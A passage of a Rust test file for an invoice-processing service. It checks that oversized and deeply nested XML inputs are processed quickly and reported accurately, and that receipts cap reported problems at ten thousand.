             <debtor_name>{name}</debtor_name><address>Koskikatu 5</address>\
             <postcode>96200</postcode><city>Rovaniemi</city><issue_date>2026-09-01</issue_date>\
             <due_date>2026-09-15</due_date><currency>EUR</currency>{extra}<amount>645.00</amount>\
             </invoice>\n"
        )
    };
    let document = |attributes: &str, body: &str| {
        format!(
            "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<invoices xmlns=\"urn:kravflyt:xml:1\"{attributes}>\n{body}</invoices>\n"
        )
    };
    let files: Vec<(&str, String)> = vec![
        (
            "huge-root-attribute.xml",
            document(
                &format!(" pad=\"{}\"", "A".repeat(8 * mib)),
                &invoice("GX-1", "Aino Kettunen", ""),
            ),
        ),
        (
            "many-root-attributes.xml",
            document(
                &(0..200_000)
                    .map(|i| format!(" a{i}=\"x\""))
                    .collect::<String>(),
                &invoice("GX-2", "Aino Kettunen", ""),
            ),
        ),
        (
            "deep-nesting.xml",
            document(
                "",
                &format!(
                    "<invoice>{}{}</invoice>\n",
                    "<a>".repeat(200_000),
                    "</a>".repeat(200_000)
                ),
            ),
        ),
        (
            "huge-text.xml",
            document(
                "",
                &(invoice("GX-3", &"B".repeat(8 * mib), "")
                    + &invoice("GX-4", "Aino Kettunen", "")),
            ),
        ),
        (
            "long-key.xml",
            document("", &invoice(&"Z".repeat(mib), "Aino Kettunen", "")),
        ),
        (
            "many-unknown-elements.xml",
            document(
                "",
                &invoice(
                    "GX-5",
                    "Aino Kettunen",
                    &(0..50_000).map(|i| format!("<x{i}/>")).collect::<String>(),
                ),
            ),
        ),
    ];
    for (name, content) in &files {
        ws.drop_file("revontuli", name, content);
    }
    let started = Instant::now();
    ws.process(AS_OF);
    assert!(
        started.elapsed() < Duration::from_secs(20),
        "{:?}",
        started.elapsed()
    );

    let mut wrong = Vec::new();
    // Over the detection window (docs/formats.md: the first 64 KiB decide the format) the
    // file may be refused, but the receipt must say something true: not that the document's
    // root is called `` in namespace `none`.
    for name in ["huge-root-attribute.xml", "many-root-attributes.xml"] {
        let rows = short_receipt(&ws, "revontuli", name, &mut wrong);
        for row in &rows[1..] {
            if row["message"].contains("``") || row["message"].contains("namespace `none`") {
                wrong.push(format!(
                    "{name}: the message names an empty root: {}",
                    row["message"]
                ));
            }
        }
    }
    for (name, status, problems) in [
        (
            "deep-nesting.xml",
            "rejected",
            &["malformed_xml@line 3"][..],
        ),
        (
            "huge-text.xml",
            "partly_accepted",
            &["bad_value@/invoices/invoice[1]#debtor_name"][..],
        ),
        (
            "long-key.xml",
            "rejected",
            &["bad_value@/invoices/invoice[1]#invoice_no"][..],
        ),
        (
            "many-unknown-elements.xml",
            "rejected",
            &["unknown_column@/invoices/invoice[1]"][..],
        ),
    ] {
        let rows = short_receipt(&ws, "revontuli", name, &mut wrong);
        let got = problems_of(&rows);
        if rows[0]["status"] != status || got != problems {
            wrong.push(format!(
                "{name}: {} {got:?}, expected {status} {problems:?}",
                rows[0]["status"]
            ));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn more_than_ten_thousand_problems_are_capped() {
    let ws = Workspace::new();
    let rows: Vec<String> = (0..10_050)
        .map(|i| invoice_row(&format!("P-{i}"), "Kari Nordmann").replace("1 000,00", "abc"))
        .collect();
    ws.drop_file("nordlys", "many-problems.csv", invoices(&rows));
    ws.process(AS_OF);
    let receipt = receipt_rows(&ws.outbox_file("nordlys", "receipt-many-problems.csv.csv"));
    let file = &receipt[0];
    assert_eq!(
        [
            &file["status"],
            &file["records"],
            &file["accepted"],
            &file["rejected"]
        ],
        ["rejected", "10050", "0", "10050"]
    );
    assert_eq!(receipt.len(), 1 + 10_000 + 1);
    assert!(receipt[1..10_001].iter().all(|r| r["code"] == "bad_amount"));
    let last = &receipt[10_001];
    assert_eq!(problem(last), "too_many_problems@file");
    assert!(last["message"].contains("50 more"), "{}", last["message"]);
    assert_eq!(
        ws.names_under("archive"),
        ["nordlys/YYYY/MM/DD/many-problems.csv"]
    );
}
